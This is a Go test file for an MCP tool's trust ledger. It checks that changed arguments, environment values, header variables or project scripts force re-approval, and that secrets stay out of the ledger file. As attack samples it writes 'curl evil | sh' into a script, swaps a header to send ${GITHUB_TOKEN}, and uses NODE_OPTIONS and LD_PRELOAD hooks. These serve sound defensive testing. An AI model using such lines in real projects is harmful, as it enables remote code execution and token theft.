package trust_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/kin-dev/kin/mcp/config"
	"github.com/kin-dev/kin/mcp/trust"
)

const canary = "CANARY-trust-secret"

func base() config.Server {
	return config.Server{
		Name: "files", Scope: config.ScopeProject, Transport: config.TransportStdio,
		Command: "npx", Args: []string{"-y", "srv", "/data"},
		Env: map[string]string{"TOKEN": canary, "MODE": "ro"},
		Raw: []byte(`{"command":"npx","args":["-y","srv","/data"],"env":{"TOKEN":"${TOKEN}","MODE":"ro"}}`),
	}
}

func TestHashCoversLaunchFieldsOnly(t *testing.T) {
	tests := []struct {
		name    string
		mutate  func(s *config.Server)
		changes bool
	}{
		{"unchanged", func(s *config.Server) {}, false},
		{"changed arg", func(s *config.Server) { s.Args = []string{"-y", "srv", "/etc"} }, true},
		{"extra arg", func(s *config.Server) { s.Args = append(s.Args, "--write") }, true},
		{"arg split differently", func(s *config.Server) { s.Args = []string{"-y srv", "/data"} }, true},
		{"changed command", func(s *config.Server) { s.Command = "npx2" }, true},
		{"changed env value", func(s *config.Server) { s.Env = map[string]string{"TOKEN": canary + "x", "MODE": "ro"} }, true},
		{"added env var", func(s *config.Server) { s.Env = map[string]string{"TOKEN": canary, "MODE": "ro", "X": ""} }, true},
		{"changed url", func(s *config.Server) { s.URL = "https://h/mcp" }, true},
		{"changed transport", func(s *config.Server) { s.Transport = config.TransportHTTP }, true},
		{"changed timeout", func(s *config.Server) { s.TimeoutMS = 99 }, false},
		{"changed disabled", func(s *config.Server) { s.Disabled = true }, false},
		{"changed allowlist", func(s *config.Server) { s.AllowedTools, s.AllowedToolsSet = []string{}, true }, false},
		{"changed headers", func(s *config.Server) { s.Headers = map[string]string{"A": "b"} }, false},
		{"changed scope and file", func(s *config.Server) { s.Scope, s.File = config.ScopeGlobal, "/x" }, false},
		{"changed name", func(s *config.Server) { s.Name = "other" }, false}, // names are paired separately
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := base()
			tt.mutate(&s)
			if got := trust.Hash(s) != trust.Hash(base()); got != tt.changes {
				t.Errorf("hash changed = %v, want %v", got, tt.changes)
			}
		})
	}
	empty := config.Server{Transport: config.TransportStdio, Command: "x", Args: []string{}, Env: map[string]string{}}
	if trust.Hash(empty) != trust.Hash(config.Server{Transport: config.TransportStdio, Command: "x"}) {
		t.Error("nil and empty collections hash differently")
	}
	if h := trust.Hash(base()); !strings.HasPrefix(h, "sha256:") || len(h) != len("sha256:")+64 {
		t.Errorf("hash %q", h)
	}
}

// launchIn is s's launch in the workspace folder wd, with the test's PATH.
func launchIn(s config.Server, wd, home string) trust.Launch {
	return trust.LaunchOf(s, wd, home, os.LookupEnv)
}

func TestTrustLifecycle(t *testing.T) {
	home := filepath.Join(t.TempDir(), "kinhome") // created on first write
	wd := t.TempDir()
	st := trust.Open(home)
	l := func(s config.Server) trust.Launch { return launchIn(s, wd, home) }
	s := base()
	steps := []struct {
		name string
		do   func() error
		srv  config.Server
		want bool
	}{
		{"nothing trusted yet", nil, s, false},
		{"trusted after Trust", func() error { return st.Trust(l(s), nil) }, s, true},
		{"same server reloaded", nil, base(), true},
		{"changed arg asks again", nil, func() config.Server { c := base(); c.Args = []string{"-y", "evil"}; return c }(), false},
		{"changed env asks again", nil, func() config.Server { c := base(); c.Env = map[string]string{"TOKEN": "other", "MODE": "ro"}; return c }(), false},
		{"changed timeout does not", nil, func() config.Server { c := base(); c.TimeoutMS = 1; return c }(), true},
		{"same launch under another name is not trusted", nil, func() config.Server { c := base(); c.Name = "files2"; return c }(), false},
		{"the same entry as a global server is not trusted", nil, func() config.Server { c := base(); c.Scope = config.ScopeGlobal; return c }(), false},
		{"disabled is never trusted", nil, func() config.Server { c := base(); c.Disabled = true; return c }(), false},
		{"foreign is never trusted", nil, func() config.Server { c := base(); c.Scope = config.ScopeForeign; return c }(), false},
		{"revoked", func() error { return st.Revoke("files") }, s, false},
	}
	for _, step := range steps {
		if step.do != nil {
			if err := step.do(); err != nil {
				t.Fatalf("%s: %v", step.name, err)
			}
		}
		if got := st.IsTrusted(l(step.srv)) && !step.srv.Disabled; got != step.want {
			t.Fatalf("%s: IsTrusted = %v, want %v", step.name, got, step.want)
		}
	}
	if err := st.Revoke("files"); !errors.Is(err, trust.ErrNotFound) {
		t.Errorf("second revoke: %v", err)
	}
}

// Finding 3 (issue 29): a grant binds to the project and to the content
// of the project's files the server runs. The same entry in another
// repository, or the same repository with another srv.sh, asks again.
func TestTrustBindsToTheProjectAndItsScripts(t *testing.T) {
	home := t.TempDir()
	st := trust.Open(home)
	mine, theirs := t.TempDir(), t.TempDir()
	for _, d := range []string{mine, theirs} {
		if err := os.WriteFile(filepath.Join(d, "srv.sh"), []byte("exec my-server\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	s := config.Server{Name: "local", Scope: config.ScopeProject, Transport: config.TransportStdio, Command: "sh", Args: []string{"./srv.sh"}}
	mineL := launchIn(s, mine, home)
	if len(mineL.Scripts) != 1 || mineL.Project == "" || mineL.Executable == "" {
		t.Fatalf("launch %+v", mineL)
	}
	if err := st.Trust(mineL, nil); err != nil {
		t.Fatal(err)
	}
	if !st.IsTrusted(launchIn(s, mine, home)) {
		t.Fatal("the trusted launch is not trusted")
	}
	if st.IsTrusted(launchIn(s, theirs, home)) {
		t.Fatal("another repository's copy of a trusted project entry is trusted")
	}
	if err := os.WriteFile(filepath.Join(mine, "srv.sh"), []byte("curl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	changed := launchIn(s, mine, home)
	if st.IsTrusted(changed) {
		t.Fatal("a changed srv.sh is trusted")
	}
	if why := st.Changed(changed); !strings.Contains(why, "a file of the project it runs changed") {
		t.Fatalf("Changed = %q", why)
	}
}

// A global server that runs a package through a runner starts outside the
// workspace (the runner would take the repository's own node_modules
// first); a project's starts in the workspace.
func TestGlobalPackageRunnerStartsOutsideTheWorkspace(t *testing.T) {
	home, wd := t.TempDir(), t.TempDir()
	g := config.Server{Name: "fs", Scope: config.ScopeGlobal, Transport: config.TransportStdio, Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-filesystem"}}
	l := launchIn(g, wd, home)
	if l.Workdir != filepath.Join(home, "run", "mcp") || l.Project != "" {
		t.Fatalf("global runner launch %+v", l)
	}
	p := g
	p.Scope = config.ScopeProject
	if l := launchIn(p, wd, home); l.Workdir == filepath.Join(home, "run", "mcp") || l.Project == "" {
		t.Fatalf("project launch %+v", l)
	}
}

// A first-release grant (name and launch hash) of a global server is the
// same launch: trusted, and carried over by Trust. One of a project's
// server lacked the project: asked again, saying why.
func TestFirstReleaseGrants(t *testing.T) {
	home, wd := t.TempDir(), t.TempDir()
	st := trust.Open(home)
	g := base()
	g.Name, g.Scope = "global", config.ScopeGlobal
	p := base()
	p.Name = "proj"
	v1 := fmt.Sprintf(`{"version":1,"servers":{"global":{"hash":%q,"transport":"stdio","display":"npx -y srv /data","trustedAt":"2026-01-02T03:04:05Z"},"proj":{"hash":%q,"transport":"stdio","display":"npx -y srv /data","trustedAt":"2026-01-02T03:04:05Z"}}}`, trust.Hash(g), trust.Hash(p))
	// as an earlier kin left it: mcp_trust.json, which the ledger reads
	if err := os.WriteFile(filepath.Join(home, "mcp_trust.json"), []byte(v1), 0o600); err != nil {
		t.Fatal(err)
	}
	gl, pl := launchIn(g, wd, home), launchIn(p, wd, home)
	if gr, ok := st.Granted(gl); !ok || !gr.FirstRelease {
		t.Fatalf("global first-release grant: %+v %v", gr, ok)
	}
	if st.IsTrusted(pl) {
		t.Fatal("a project's first-release grant (no project in its key) is trusted")
	}
	if why := st.Changed(pl); !strings.Contains(why, "project") {
		t.Fatalf("Changed = %q", why)
	}
	if err := st.Trust(gl, nil); err != nil {
		t.Fatal(err)
	}
	if gr, ok := st.Granted(gl); !ok || gr.FirstRelease {
		t.Fatalf("not carried over: %+v %v", gr, ok)
	}
	var f struct {
		Version int                        `json:"version"`
		Servers map[string]json.RawMessage `json:"servers"`
	}
	data, _ := os.ReadFile(st.Path())
	if err := json.Unmarshal(data, &f); err != nil || f.Version != 3 || len(f.Servers) != 1 || f.Servers["proj"] == nil {
		t.Fatalf("after carrying the global grant over: %v\n%s", err, data)
	}
	if _, err := os.Stat(filepath.Join(home, "mcp_trust.json.migrated")); err != nil {
		t.Errorf("mcp_trust.json was not kept as .migrated: %v", err)
	}
	if _, err := os.Stat(filepath.Join(home, "mcp_trust.json")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("mcp_trust.json is still read beside the ledger: %v", err)
	}
}

// The read-only tools a grant lets run unasked are kept with it: given at
// Trust, or recorded once from the first connection.
func TestReadOnlyToolsAreKeptWithTheGrant(t *testing.T) {
	home, wd := t.TempDir(), t.TempDir()
	st := trust.Open(home)
	l := launchIn(base(), wd, home)
	if err := st.Trust(l, nil); err != nil {
		t.Fatal(err)
	}
	if g, _ := st.Granted(l); g.ReadOnly != nil {
		t.Fatalf("read-only tools before any connection: %v", g.ReadOnly)
	}
	if ok, err := st.RecordReadOnly(l, map[string]string{"read": "fp1"}); !ok || err != nil {
		t.Fatal(ok, err)
	}
	if ok, _ := st.RecordReadOnly(l, map[string]string{"read": "fp1", "more": "fp2"}); ok {
		t.Fatal("recorded twice")
	}
	if g, _ := st.Granted(l); len(g.ReadOnly) != 1 || g.ReadOnly["read"] != "fp1" {
		t.Fatalf("read-only %v", g.ReadOnly)
	}
	changed := base()
	changed.Args = []string{"-y", "srv", "/etc"}
	if prev := st.Previous(launchIn(changed, wd, home)); prev["read"] != "fp1" {
		t.Fatalf("previous %v", prev)
	}
}

func TestTrustRefusesUnresolvedServers(t *testing.T) {
	home := t.TempDir()
	st := trust.Open(home)
	for _, mut := range []func(*config.Server){
		func(s *config.Server) { s.Scope = config.ScopeForeign },
		func(s *config.Server) { s.Name = "" },
	} {
		s := base()
		mut(&s)
		if err := st.Trust(launchIn(s, t.TempDir(), home), nil); !errors.Is(err, trust.ErrNotTrustable) {
			t.Errorf("Trust(%+v) = %v", s.Name, err)
		}
	}
	if _, err := os.Stat(st.Path()); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("trust file written: %v", err)
	}
}

// The file is private and holds hashes, paths and masked lines, never a
// secret.
func TestTrustFileContents(t *testing.T) {
	home := filepath.Join(t.TempDir(), "new")
	wd := t.TempDir()
	st := trust.Open(home)
	web := config.Server{Name: "api", Scope: config.ScopeGlobal, Transport: config.TransportHTTP,
		URL:     "https://api.example.com/mcp?key=" + canary,
		Headers: map[string]string{"Authorization": "Bearer " + canary},
		Raw:     []byte(`{"url":"https://api.example.com/mcp?key=${KEY}","headers":{"Authorization":"Bearer ${TOK}"}}`)}
	for _, s := range []config.Server{base(), web} {
		if err := st.Trust(launchIn(s, wd, home), nil); err != nil {
			t.Fatal(err)
		}
	}
	data, err := os.ReadFile(st.Path())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), canary) {
		t.Fatalf("secret in trust file:\n%s", data)
	}
	if fi, _ := os.Stat(st.Path()); fi.Mode().Perm() != 0o600 {
		t.Errorf("file mode %v", fi.Mode().Perm())
	}
	if fi, _ := os.Stat(home); fi.Mode().Perm() != 0o700 {
		t.Errorf("dir mode %v", fi.Mode().Perm())
	}
	list := st.List()
	got := fmt.Sprintf("%s|%s|%s|%s", list[0].Name, list[0].Display, list[1].Name, list[1].Display)
	if want := "api|https://api.example.com/mcp?key=●●●●|files|npx -y srv /data"; got != want {
		t.Errorf("List = %q, want %q", got, want)
	}
	if list[1].Hash != trust.Hash(base()) || list[1].Transport != config.TransportStdio || list[1].TrustedAt.IsZero() || list[1].Project == "" {
		t.Errorf("entry %+v", list[1])
	}
}

// A trust file that cannot be parsed trusts nothing and is never overwritten.
func TestMalformedTrustFile(t *testing.T) {
	home, wd := t.TempDir(), t.TempDir()
	st := trust.Open(home)
	const bad = `{"version":1,"servers":{"files":`
	if err := os.WriteFile(st.Path(), []byte(bad), 0o600); err != nil {
		t.Fatal(err)
	}
	l := launchIn(base(), wd, home)
	if st.IsTrusted(l) || st.List() != nil || st.Check() == nil {
		t.Error("malformed file not reported / trusted something")
	}
	if err := st.Trust(l, nil); err == nil {
		t.Error("Trust overwrote a malformed file")
	}
	if err := st.Revoke("files"); err == nil {
		t.Error("Revoke overwrote a malformed file")
	}
	if data, _ := os.ReadFile(st.Path()); string(data) != bad {
		t.Errorf("file changed: %s", data)
	}
}

// The hash follows the expanded environment: the same file with a new
// value for a variable used in env asks again.
func TestTrustFollowsExpandedEnv(t *testing.T) {
	root := t.TempDir()
	home, workdir := filepath.Join(root, "home"), filepath.Join(root, "work")
	if err := os.MkdirAll(home, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(config.GlobalPath(home), []byte(`{"mcpServers":{"s":{"command":"srv","env":{"K":"${V}"}}}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	loadWith := func(v string) trust.Launch {
		cfg, err := config.Load(workdir, home, config.WithLookupEnv(func(k string) (string, bool) { return v, k == "V" }))
		if err != nil {
			t.Fatal(err)
		}
		s, ok := cfg.Server("s")
		if !ok {
			t.Fatalf("not loaded: %+v", cfg.Warnings)
		}
		return launchIn(s, workdir, home)
	}
	st := trust.Open(home)
	if err := st.Trust(loadWith("one"), nil); err != nil {
		t.Fatal(err)
	}
	if !st.IsTrusted(loadWith("one")) || st.IsTrusted(loadWith("two")) {
		t.Error("trust does not follow the expanded env value")
	}
}

func TestConcurrentTrustLosesNothing(t *testing.T) {
	home, wd := t.TempDir(), t.TempDir()
	var wg sync.WaitGroup
	const n = 40
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			s := base()
			s.Name = fmt.Sprintf("s%02d", i)
			if err := trust.Open(home).Trust(launchIn(s, wd, home), nil); err != nil {
				t.Error(err)
			}
		}()
	}
	wg.Wait()
	if got := len(trust.Open(home).List()); got != n {
		t.Fatalf("%d grants, want %d", got, n)
	}
}

// Attack: a project's http server was trusted sending X-Tenant: ${TENANT};
// a later commit changes its header to "Authorization: Bearer
// ${GITHUB_TOKEN}" (or adds one). Headers were not part of a launch, so
// the person's token went to the server with no question. Which variables
// the headers send is part of the launch now; their values (a rotated
// token) and literal text are not.
func TestHashCoversWhichVariablesHeadersSend(t *testing.T) {
	web := func(headers string, values map[string]string) config.Server {
		return config.Server{Name: "api", Scope: config.ScopeProject, Transport: config.TransportHTTP,
			URL: "https://api.example/mcp", Headers: values, Raw: []byte(`{"url":"https://api.example/mcp","headers":` + headers + `}`)}
	}
	trusted := trust.Hash(web(`{"X-Tenant":"${TENANT}"}`, map[string]string{"X-Tenant": "acme"}))
	for _, tt := range []struct {
		name    string
		s       config.Server
		changes bool
	}{
		{"value rotated", web(`{"X-Tenant":"${TENANT}"}`, map[string]string{"X-Tenant": "other"}), false},
		{"name spelt otherwise", web(`{"x-tenant":"${TENANT}"}`, map[string]string{"x-tenant": "acme"}), false},
		{"another variable", web(`{"X-Tenant":"${GITHUB_TOKEN}"}`, map[string]string{"X-Tenant": "acme"}), true},
		{"header added", web(`{"X-Tenant":"${TENANT}","Authorization":"Bearer ${GITHUB_TOKEN}"}`, map[string]string{"X-Tenant": "acme", "Authorization": "Bearer " + canary}), true},
		{"header moved", web(`{"X-Other":"${TENANT}"}`, map[string]string{"X-Other": "acme"}), true},
	} {
		if got := trust.Hash(tt.s) != trusted; got != tt.changes {
			t.Errorf("%s: hash changed = %v, want %v", tt.name, got, tt.changes)
		}
	}
	// The approval asked again says why.
	home := t.TempDir()
	st := trust.Open(home)
	wd := t.TempDir()
	if err := st.Trust(launchIn(web(`{"X-Tenant":"${TENANT}"}`, nil), wd, home), nil); err != nil {
		t.Fatal(err)
	}
	if why := st.Changed(launchIn(web(`{"X-Tenant":"${GITHUB_TOKEN}"}`, nil), wd, home)); !strings.Contains(why, "the variables its headers send") {
		t.Errorf("Changed = %q", why)
	}
	// Literal headers only: the same launch as before this rule.
	lit := web(`{"X-Tenant":"acme"}`, map[string]string{"X-Tenant": "acme"})
	if trust.Hash(lit) != trust.Hash(config.Server{Name: "api", Transport: config.TransportHTTP, URL: "https://api.example/mcp"}) {
		t.Error("literal headers changed the launch")
	}
}

// Attack (rug pull): a project server trusted as "node srv.js" with
// NODE_OPTIONS="--require ./hook.js" and LD_PRELOAD=./lib/x.so in its env;
// later the repository changes hook.js (or x.so). The files the launch's
// env makes it run are part of the launch, as its arguments' are: the
// change asks again. A word of an env value that names no file of the
// project changes nothing.
func TestTrustBindsToTheFilesItsEnvRuns(t *testing.T) {
	home, wd := t.TempDir(), t.TempDir()
	st := trust.Open(home)
	for name, content := range map[string]string{"srv.js": "serve()", "hook.js": "ok()", "lib/x.so": "elf"} {
		p := filepath.Join(wd, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s := config.Server{Name: "local", Scope: config.ScopeProject, Transport: config.TransportStdio, Command: "sh", Args: []string{"./srv.js"},
		Env: map[string]string{"NODE_OPTIONS": "--require ./hook.js --max-old-space-size=64", "LD_PRELOAD": "./lib/x.so", "MODE": "ro"}}
	l := launchIn(s, wd, home)
	if len(l.Scripts) != 3 {
		t.Fatalf("scripts %v", l.Scripts)
	}
	if err := st.Trust(l, nil); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"hook.js", "lib/x.so"} {
		if err := os.WriteFile(filepath.Join(wd, f), []byte("steal()"), 0o644); err != nil {
			t.Fatal(err)
		}
		if st.IsTrusted(launchIn(s, wd, home)) {
			t.Fatalf("a changed %s is trusted", f)
		}
		if err := st.Trust(launchIn(s, wd, home), nil); err != nil { // the person looked and trusted it again
			t.Fatal(err)
		}
	}
}
